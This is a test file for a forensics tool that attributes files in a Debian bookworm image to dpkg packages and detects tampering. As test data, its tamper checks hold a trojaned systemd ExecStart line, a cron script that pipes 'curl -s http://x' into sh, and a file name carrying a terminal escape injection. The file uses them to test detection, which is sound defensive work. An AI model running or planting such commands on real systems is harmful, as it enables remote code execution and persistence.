// Package attribution on real Debian bookworm dpkg files: owners, usrmerge aliases, multi-arch, conffiles, diversions, tampering.
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  buildPackageDb,
  mergedUsrDirs,
  packageDbFileKind,
  type PackageDb,
  type PackageDbFile,
} from '../../src/forensics/common/packages.js';

const FIXTURES = fileURLToPath(new URL('../fixtures/dpkg/', import.meta.url));
const read = (name: string) => readFileSync(path.join(FIXTURES, name));

/** The database files as the diff engine would read them out of the image: image path + bytes. */
function bookwormFiles(): PackageDbFile[] {
  const files: PackageDbFile[] = [
    { path: 'var/lib/dpkg/status', bytes: read('status') },
    { path: 'var/lib/dpkg/diversions', bytes: read('diversions') },
  ];
  for (const name of readdirSync(path.join(FIXTURES, 'info')).sort()) {
    // Stored as "libc6%3Aamd64.list": a ':' in a file name cannot be checked out on Windows.
    files.push({ path: `var/lib/dpkg/info/${decodeURIComponent(name)}`, bytes: read(`info/${name}`) });
  }
  return files;
}

/** bookworm's root as `ls -la /` shows it: bin, lib, lib64 and sbin are symlinks into /usr. */
const BOOKWORM_ROOT = [
  { path: 'bin', type: 'symlink' as const, linkTarget: 'usr/bin' },
  { path: 'boot', type: 'dir' as const },
  { path: 'lib', type: 'symlink' as const, linkTarget: 'usr/lib' },
  { path: 'lib64', type: 'symlink' as const, linkTarget: 'usr/lib64' },
  { path: 'sbin', type: 'symlink' as const, linkTarget: 'usr/sbin' },
  { path: 'usr', type: 'dir' as const },
];

function bookworm(files = bookwormFiles()): PackageDb {
  const db = buildPackageDb(files, { mergedUsrDirs: mergedUsrDirs(BOOKWORM_ROOT) });
  if (db === undefined) throw new Error('the bookworm fixture has no package database');
  return db;
}

const md5 = (bytes: Buffer | string) => createHash('md5').update(bytes).digest('hex');

describe('dpkg attribution on bookworm', () => {
  it('given /usr/bin/dpkg, then it belongs to dpkg 1.21.23 with the md5 from dpkg.md5sums', () => {
    const db = bookworm();
    expect(db.managers).toEqual(['dpkg']);
    expect(db.problems).toEqual([]);
    expect(db.attribute('usr/bin/dpkg')).toEqual({
      manager: 'dpkg',
      name: 'dpkg',
      version: '1.21.23',
      expectedChecksum: '84b6772e2b8c2018db947ceae8f87d3b',
    });
    expect(db.digestNeeded('/usr/bin/dpkg')).toBe('md5');
  });

  it('given /etc/passwd (written by base-passwd’s scripts, listed by no package), then it is not package-owned', () => {
    expect(bookworm().attribute('etc/passwd')).toBeUndefined();
    expect(bookworm().digestNeeded('etc/passwd')).toBeUndefined();
  });

  it('given usr/bin/ls as the tar holds it, then usrmerge maps it to coreutils’ /bin/ls', () => {
    const db = bookworm();
    const ls = {
      manager: 'dpkg',
      name: 'coreutils',
      version: '9.1-1',
      expectedChecksum: '7987cf330ff5bb94015dfbb9eae5a99f',
    };
    expect(db.attribute('usr/bin/ls')).toEqual(ls);
    expect(db.attribute('/bin/ls')).toEqual(ls);
    // Without knowing /bin is a symlink, the physical path would look unowned: the alias is what finds it.
    const unmerged = buildPackageDb(bookwormFiles());
    expect(unmerged?.attribute('usr/bin/ls')).toBeUndefined();
    expect(unmerged?.attribute('bin/ls')).toEqual(ls);
  });

  it('given libc under /usr/lib and the loader under /usr/lib64, then both belong to the multi-arch libc6:amd64', () => {
    const db = bookworm();
    expect(db.attribute('usr/lib/x86_64-linux-gnu/libc.so.6')).toMatchObject({
      name: 'libc6:amd64',
      version: '2.36-9+deb12u14',
    });
    expect(db.attribute('usr/lib64/ld-linux-x86-64.so.2')).toMatchObject({ name: 'libc6:amd64' });
  });

  it('given /usr/bin (every package lists it) and /usr/share/doc/dpkg (only dpkg), then only the latter is attributed', () => {
    const db = bookworm();
    expect(db.attribute('usr/bin')).toBeUndefined();
    expect(db.attribute('usr/share/doc/dpkg')).toEqual({ manager: 'dpkg', name: 'dpkg', version: '1.21.23' });
  });

  it('given /bin/sh, diverted by dash itself, then it stays dash’s (a symlink: no checksum)', () => {
    const db = bookworm();
    expect(db.attribute('usr/bin/sh')).toEqual({ manager: 'dpkg', name: 'dash', version: '0.5.12-2' });
    expect(db.attribute('usr/bin/sh.distrib')).toBeUndefined();
  });

  it('given a local dpkg-divert of dpkg-query, then the package’s file is expected at the diverted name', () => {
    const files = bookwormFiles().map((file) =>
      file.path.endsWith('diversions')
        ? {
            ...file,
            bytes: Buffer.concat([file.bytes, Buffer.from('/usr/bin/dpkg-query\n/usr/bin/dpkg-query.real\n:\n')]),
          }
        : file,
    );
    const db = bookworm(files);
    expect(db.attribute('usr/bin/dpkg-query.real')).toMatchObject({
      name: 'dpkg',
      expectedChecksum: expect.stringMatching(/^[0-9a-f]{32}$/),
    });
    expect(db.attribute('usr/bin/dpkg-query')).toBeUndefined();
  });
});

describe('dpkg tamper check', () => {
  it('given the real dpkg-db-backup.timer, then it matches; with an ExecStart appended, it is tampered', () => {
    const db = bookworm();
    const timer = read('files/dpkg-db-backup.timer');
    const path = 'usr/lib/systemd/system/dpkg-db-backup.timer';
    expect(db.checkTamper(path, md5(timer))).toMatchObject({ name: 'dpkg', tampered: false });
    const trojaned = Buffer.concat([timer, Buffer.from('ExecStart=/tmp/.x\n')]);
    expect(db.checkTamper(path, md5(trojaned).toUpperCase())).toEqual({
      manager: 'dpkg',
      name: 'dpkg',
      version: '1.21.23',
      expectedChecksum: md5(timer),
      tampered: true,
    });
  });

  it('given /etc/cron.daily/dpkg, a conffile with its md5 only in status, then edits are flagged as a conffile change', () => {
    const db = bookworm();
    const original = read('files/cron.daily-dpkg');
    expect(db.attribute('etc/cron.daily/dpkg')).toMatchObject({ conffile: true, expectedChecksum: md5(original) });
    expect(db.checkTamper('etc/cron.daily/dpkg', md5('#!/bin/sh\ncurl -s http://x | sh\n'))).toMatchObject({
      conffile: true,
      tampered: true,
    });
  });

  it('given a path no package lists a checksum for, then checkTamper only attributes', () => {
    expect(bookworm().checkTamper('usr/share/doc/dpkg', md5('x'))).toEqual({
      manager: 'dpkg',
      name: 'dpkg',
      version: '1.21.23',
    });
  });
});

describe('dpkg database reading', () => {
  it('given the same files in any order, then every answer is the same', () => {
    const forward = bookworm();
    const backward = bookworm(bookwormFiles().reverse());
    for (const path of [
      'usr/bin/ls',
      'usr/bin/dpkg',
      'etc/cron.daily/dpkg',
      'usr/bin/sh',
      'usr/share/doc',
      'usr/lib64/ld-linux-x86-64.so.2',
    ]) {
      expect(JSON.stringify(backward.attribute(path)), path).toBe(JSON.stringify(forward.attribute(path)));
    }
  });

  it('given dpkg left only as config-files, then only its conffiles are still its own', () => {
    const status = read('status').toString('latin1');
    const removed = status.replace(
      /(Package: dpkg\n(?:.+\n)*?)Status: install ok installed/,
      '$1Status: deinstall ok config-files',
    );
    expect(removed).not.toBe(status);
    const files = bookwormFiles().map((file) =>
      file.path === 'var/lib/dpkg/status' ? { ...file, bytes: Buffer.from(removed, 'latin1') } : file,
    );
    const db = bookworm(files);
    expect(db.attribute('usr/bin/dpkg')).toBeUndefined();
    expect(db.attribute('etc/cron.daily/dpkg')).toMatchObject({ name: 'dpkg', conffile: true });
  });

  it('given a distroless-style status.d part with its md5sums, then its files are attributed without any .list', () => {
    const stanza = /Package: base-files\n(?:.+\n)+/.exec(read('status').toString('latin1'))?.[0] ?? '';
    const db = buildPackageDb([
      { path: 'var/lib/dpkg/status.d/base-files', bytes: Buffer.from(stanza.replace(/^Status: .*\n/m, ''), 'latin1') },
      { path: 'var/lib/dpkg/status.d/base-files.md5sums', bytes: read('info/base-files.md5sums') },
    ]);
    expect(db?.attribute('usr/share/base-files/profile')).toMatchObject({
      name: 'base-files',
      version: '12.4+deb12u15',
    });
    expect(db?.digestNeeded('usr/share/base-files/profile')).toBe('md5');
  });

  it('given a file list for a package the status does not know, with a hostile name, then it is a display-safe problem', () => {
    const db = buildPackageDb([
      { path: 'var/lib/dpkg/status', bytes: read('status') },
      { path: 'var/lib/dpkg/info/evil\x1b]0;pwned\x07.list', bytes: Buffer.from('/usr/bin/evil\n') },
      { path: 'var/lib/dpkg/info/dpkg.md5sums', bytes: Buffer.from('not a checksum line\n') },
    ]);
    expect(db?.problems).toEqual([
      'dpkg: evil\\x1b]0;pwned\\x07.list names no package in the status database',
      'dpkg: dpkg.md5sums has 1 unreadable lines',
    ]);
    expect(db?.attribute('usr/bin/evil')).toBeUndefined();
  });

  it('given image paths, then exactly the database files are picked for reading', () => {
    const kinds = Object.fromEntries(
      [
        'var/lib/dpkg/status',
        'var/lib/dpkg/status-old',
        'var/lib/dpkg/info/libc6:amd64.list',
        'var/lib/dpkg/info/dpkg.md5sums',
        'var/lib/dpkg/info/dpkg.postinst',
        'var/lib/dpkg/diversions',
        'var/lib/dpkg/status.d/libssl3',
        'var/lib/dpkg/status.d/libssl3.md5sums',
        'lib/apk/db/installed',
        'etc/passwd',
      ].map((path) => [path, packageDbFileKind(path) ?? null]),
    );
    expect(kinds).toEqual({
      'var/lib/dpkg/status': 'dpkg-status',
      'var/lib/dpkg/status-old': null,
      'var/lib/dpkg/info/libc6:amd64.list': 'dpkg-list',
      'var/lib/dpkg/info/dpkg.md5sums': 'dpkg-md5sums',
      'var/lib/dpkg/info/dpkg.postinst': null,
      'var/lib/dpkg/diversions': 'dpkg-diversions',
      'var/lib/dpkg/status.d/libssl3': 'dpkg-status-part',
      'var/lib/dpkg/status.d/libssl3.md5sums': 'dpkg-md5sums',
      'lib/apk/db/installed': 'apk-installed',
      'etc/passwd': null,
    });
    expect(buildPackageDb([{ path: 'etc/passwd', bytes: Buffer.from('root:x:0:0::/:/bin/sh\n') }])).toBeUndefined();
  });

  it('given root entries, then only symlinks into /usr count as usrmerge', () => {
    expect(mergedUsrDirs(BOOKWORM_ROOT)).toEqual(['bin', 'lib', 'lib64', 'sbin']);
    expect(
      mergedUsrDirs([
        { path: 'bin', type: 'dir' },
        { path: 'lib', type: 'symlink', linkTarget: '/usr/lib' },
        { path: 'sbin', type: 'symlink', linkTarget: '/opt/evil/sbin' },
      ]),
    ).toEqual(['lib']);
  });
});
